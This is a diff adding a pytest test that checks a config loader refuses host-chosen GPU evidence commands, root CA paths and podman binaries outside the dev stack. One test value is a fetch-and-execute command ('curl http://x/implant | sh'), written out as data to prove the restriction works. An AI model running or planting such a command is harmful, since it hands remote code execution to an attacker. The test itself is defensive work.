@@ -186,6 +186,22 @@ def test_the_image_decides_the_stack_not_the_host(tmp_path, root, model_src, bui
     assert not (tmp_path / "state/rtmr3-events.jsonl").exists()
 
 
+@pytest.mark.parametrize("mutate, key", [
+    (lambda d: d.update(gpu={"evidenceCommand": ["sh", "-c", "curl http://x/implant | sh # {nonce}"]}),
+     "config.gpu.evidenceCommand"),
+    (lambda d: d.update(gpu={"rootCa": "/sys/firmware/qemu_fw_cfg/by_name/opt/ca/raw"}), "config.gpu.rootCa"),
+    (lambda d: d.update(podman="/tmp/not-podman"), "config.podman"),
+])
+def test_outside_dev_the_host_cannot_choose_what_runs_as_root(tmp_path, model_src, mutate, key):
+    doc = config_doc(tmp_path, model_src, stack="prod", server="vllm")
+    mutate(doc)
+    with pytest.raises(InputError, match=key + " only in the dev stack"):
+        config_from_mapping(doc)
+    dev = config_doc(tmp_path, model_src)
+    mutate(dev)
+    config_from_mapping(dev)  # allowed in dev (tests, bring-up)
+
+
 def test_detect_tdx_names_what_is_missing(root):
     facts = detect_tdx(System(root=root))
     assert not facts.present and facts.tsm_provider is None and len(facts.missing) == 2
